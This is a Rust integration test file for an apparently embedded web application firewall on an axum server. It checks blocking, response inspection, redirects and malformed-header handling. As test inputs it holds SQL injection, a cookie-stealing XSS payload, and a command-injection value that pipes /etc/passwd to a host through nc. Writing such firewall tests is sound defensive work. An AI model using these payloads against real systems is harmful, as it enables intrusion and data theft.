//! Verdicts on requests and responses of an axum server.

use axum::Router;
use axum::body::Bytes;
use axum::routing::{get, post};
use portcullis_tower::embed::{Builder, Mode};

use crate::served::{serve, status};

fn app() -> Router {
    Router::new()
        .route("/", get(|| async { "hello" }))
        .route("/echo", post(|body: Bytes| async move { body }))
        .route(
            "/leak",
            get(|| async { ([("content-type", "text/plain")], "root:x:0:0:root:/root:/bin/bash\n") }),
        )
}

const MULTIPART: &str = "--x\r\nContent-Disposition: form-data; name=\"note\"\r\n\r\nTEXT\r\n--x--\r\n";

#[test]
fn attacks_are_blocked_wherever_they_are() {
    let served = serve(Builder::semantic().site("shop"), app());
    let multipart = |text: &str| {
        served.post("multipart/form-data; boundary=x", MULTIPART.replace("TEXT", text).as_bytes())
    };
    for (benign, attack) in [
        (served.get("/?q=shoes"), served.get("/?q=1%27%20UNION%20SELECT%20password%20FROM%20users--%20-")),
        (
            served.post("application/json", br#"{"note": "two pairs"}"#),
            served.post("application/json", br#"{"note": "<script>alert(document.cookie)</script>"}"#),
        ),
        (multipart("two pairs"), multipart("; cat /etc/passwd | nc 10.0.0.1 80")),
    ] {
        assert_eq!((status(&benign), status(&attack)), (200, 403), "{benign}\n{attack}");
        assert!(attack.contains("looks like an attack"), "{attack}");
    }
    let events = served.events.wait(3);
    assert!(events.iter().all(|event| event.contains("\"kind\":\"embedded\"")), "{events:?}");
    assert!(events.iter().all(|event| event.contains("\"addr\":\"127.0.0.1\"")), "{events:?}");
    assert!(served.waf.metrics().contains("portcullis_integration_exchanges_total"));
}

#[test]
fn passed_bodies_are_the_bytes_that_came() {
    let served = serve(Builder::semantic(), app());
    let body: Vec<u8> = (0..100_000u32).map(|n| b'a' + (n % 26) as u8).collect();
    let answer = served.post("text/plain", &body);
    assert_eq!(status(&answer), 200);
    assert!(answer.ends_with(std::str::from_utf8(&body).unwrap()));
    let chunked = "POST /echo HTTP/1.1\r\nHost: a\r\nConnection: close\r\nTransfer-Encoding: chunked\r\n\r\n\
                   3\r\nabc\r\n4\r\ndefg\r\n0\r\n\r\n";
    assert!(served.ask(chunked.as_bytes()).ends_with("abcdefg"));
}

#[test]
fn responses_are_inspected() {
    let rule = "SecRule RESPONSE_BODY \"@contains root:x:0:0\" \"id:7,phase:4,deny,status:500\"";
    let builder = Builder::semantic().mode(Mode::Both).directives(rule).response_bodies(true);
    let served = serve(builder, app());
    assert!(served.get("/").ends_with("hello"));
    let answer = served.get("/leak");
    assert_eq!(status(&answer), 500);
    assert!(!answer.contains("root:x"), "{answer}");
    assert!(served.events.wait(1)[0].contains("\"rule_id\":7"));
}

#[test]
fn heads_of_responses_are_inspected() {
    let rule =
        "SecRule RESPONSE_HEADERS:Content-Type \"@beginsWith text/plain\" \"id:8,phase:3,deny,status:502\"";
    let served = serve(Builder::semantic().mode(Mode::Both).directives(rule), app());
    assert_eq!(status(&served.get("/leak")), 502);
    assert_eq!(status(&served.get("/nothing")), 404);
}

#[test]
fn redirects_lead_where_rules_say() {
    let rule = "SecRule ARGS:q \"@streq away\" \"id:9,phase:1,redirect:https://a.example/x\"";
    let served = serve(Builder::semantic().mode(Mode::Both).directives(rule), app());
    let answer = served.get("/?q=away");
    assert_eq!(status(&answer), 302);
    assert!(answer.contains("location: https://a.example/x"), "{answer}");
}

#[test]
fn a_head_that_http_does_not_allow_is_refused() {
    let served = serve(Builder::semantic(), app());
    let answer = served.ask(b"GET / HTTP/1.1\r\nHost: a\r\nHost: b\r\nConnection: close\r\n\r\n");
    assert_eq!(status(&answer), 400, "{answer}");
    served.events.wait(1);
}
